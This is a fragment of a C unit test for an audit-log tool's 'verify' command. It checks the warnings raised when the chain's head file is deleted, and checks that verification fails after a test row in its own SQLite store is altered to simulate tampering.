	snprintf(head, sizeof(head), "%s.head", h.store);
	cr_assert_eq(stat(head, &sb), 0, "narad left no %s", head);
	cr_assert_eq(audit("verify -c %s", h.conf), 0, "%s", out);
	cr_expect(strstr(out, "warning") == NULL, "%s", out);
	cr_expect_str_eq(head_file_state(warnings, sizeof(warnings)), "present");
	cr_expect_str_eq(warnings, "");

	cr_assert_eq(unlink(head), 0);
	cr_expect_eq(audit("verify -c %s", h.conf), 0, "%s", out);
	cr_expect(strstr(out, "intact") != NULL, "%s", out);
	cr_expect(strstr(out, "\nwarning: NR041 ") != NULL && strstr(out, head)
	    != NULL && strstr(out, "missing") != NULL, "%s", out);
	cr_expect_str_eq(head_file_state(warnings, sizeof(warnings)), "missing");
	cr_expect(strncmp(warnings, "NR041 ", 6) == 0 && strstr(warnings, head)
	    != NULL, "%s", warnings);
	/* still a failure when the chain is bad too */
	cr_assert_eq(harness_run(out, sizeof(out), "sqlite3 %s \"update audit "
	    "set detail = 'x' where seq = 2\"", h.store), 0, "%s", out);
	cr_expect_eq(audit("verify -c %s", h.conf), 1, "%s", out);
	cr_expect(strstr(out, "FAILED") != NULL && strstr(out, "warning: NR041")
	    != NULL, "%s", out);
}
